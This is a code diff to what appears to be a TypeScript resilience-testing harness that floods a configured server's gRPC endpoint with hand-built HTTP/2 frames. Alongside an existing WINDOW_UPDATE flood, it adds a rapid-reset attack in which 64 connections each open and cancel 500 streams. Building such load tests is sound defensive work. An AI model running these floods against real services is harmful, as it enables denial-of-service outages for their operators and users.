@@ -5,7 +5,7 @@ import type { Attack } from "./attack.ts";
 import { flood } from "./floods.ts";
 
 const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
-const [DATA, HEADERS, SETTINGS, WINDOW_UPDATE, CONTINUATION] = [0, 1, 4, 8, 9];
+const [DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION] = [0, 1, 3, 4, 8, 9];
 const END_HEADERS = 4;
 
 function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
@@ -44,15 +44,15 @@ function byteFrames(): Buffer {
   return Buffer.concat(Array.from(Buffer.concat([head, compressed]), (byte) => frame(DATA, 0, 1, Buffer.from([byte]))));
 }
 
-const attack = (what: string, frames: (token: string) => Buffer, rest: Buffer): Attack => ({
+const attack = (what: string, frames: (token: string) => Buffer, rest?: Buffer, connections = 16): Attack => ({
   group: "more",
   what,
   everyMs: 2000,
   wave: (attacker) =>
-    flood(attacker, 16, {
+    flood(attacker, connections, {
       url: attacker.target.grpcUrl,
       head: opening + frames(attacker.target.ingestToken).toString("latin1"),
-      rest,
+      ...(rest && { rest }),
     }),
 });
 
@@ -70,4 +70,18 @@ export const windowUpdates = attack(
   "16 connections that change the window of a call by one byte without end",
   (token) => frame(HEADERS, END_HEADERS, 1, call(token)),
   Buffer.concat(Array.from({ length: 5000 }, () => frame(WINDOW_UPDATE, 0, 1, Buffer.from([0, 0, 0, 1])))),
+);
+
+const CANCEL = Buffer.from([0, 0, 0, 8]);
+export const cancelledCalls = attack(
+  "64 connections whose first packet begins and cancels 500 calls",
+  (token) =>
+    Buffer.concat(
+      Array.from({ length: 500 }, (_, index) => [
+        frame(HEADERS, END_HEADERS, 2 * index + 1, call(token)),
+        frame(RST_STREAM, 0, 2 * index + 1, CANCEL),
+      ]).flat(),
+    ),
+  undefined,
+  64,
 );
